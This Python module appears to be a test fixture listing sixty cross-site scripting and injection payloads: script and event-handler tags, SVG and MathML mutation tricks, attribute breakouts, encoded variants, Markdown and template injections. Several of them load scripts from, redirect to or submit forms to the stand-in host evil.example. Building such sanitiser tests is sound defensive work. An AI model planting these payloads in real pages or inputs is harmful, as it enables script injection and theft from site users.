"""Sixty hostile texts of many kinds; each would set `window.planted`, leave the origin or mislead.

What a browser would do with one if it were read as HTML, Markdown, a template or a style, not text.
"""

EVIL = "https://evil.example/"
RUN = "window.planted=1"
TAGS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script src={EVIL}a.js></script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<object data={EVIL}o></object>",
    f"<embed src=javascript:{RUN}>",
    f"<base href={EVIL}>",
    f'<meta http-equiv=refresh content="0;url={EVIL}">',
    f"<link rel=stylesheet href={EVIL}s.css>",
    f"<form action={EVIL}><button>Go</button></form>",
)
EVENTS = (
    f"<img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}//",
    f"<img src={EVIL}pixel.png>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<button popovertarget=x onbeforetoggle={RUN}>x</button>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<a href=data:text/html,<script>{RUN}</script>>x</a>",
)
SVG = (
    f"<svg onload={RUN}></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><a xlink:href=javascript:{RUN}><text>x</text></a></svg>",
    f"<svg><use href=data:image/svg+xml,<svg onload={RUN}>></use></svg>",
    f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
)
MUTATIONS = (
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f'<svg></p><style><a id="</style><img src=x onerror={RUN}>">',
    f"<template><img src=x onerror={RUN}></template>",
    f"<xmp><img src=x onerror={RUN}></xmp>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
)
ATTRIBUTES = (
    f'" onmouseover="{RUN}',
    f"' autofocus onfocus='{RUN}",
    f"x` onclick=`{RUN}",
    f'"><img src=x onerror={RUN}>',
)
ENCODED = (
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"&#x3c;svg onload={RUN}&#x3e;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"＜script＞{RUN}＜/script＞",
    f"<a href=java&#115;cript:{RUN}>x</a>",
)
MARKDOWN = (
    f"![x]({EVIL}md.png)",
    f"[x](javascript:{RUN})",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    f"<{EVIL}auto>",
    f"[x]: {EVIL}reference",
    f"$$\\href{{javascript:{RUN}}}{{x}}$$",
)
TEMPLATES = (
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
)
STYLES = (f"<style>@import '{EVIL}s';body{{display:none}}</style>",)
INVISIBLE = {  # what is taken away before a text is shown, and what stays
    f"\u202e<img src=x onerror={RUN}>\u202c": f"<img src=x onerror={RUN}>",
    f"<scr\x00ipt>{RUN}</scr\x00ipt>": f"ipt>{RUN}</scr",
}
PAYLOADS = (
    *TAGS, *EVENTS, *SVG, *MUTATIONS, *ATTRIBUTES, *ENCODED, *MARKDOWN, *TEMPLATES, *STYLES
)  # fmt: skip
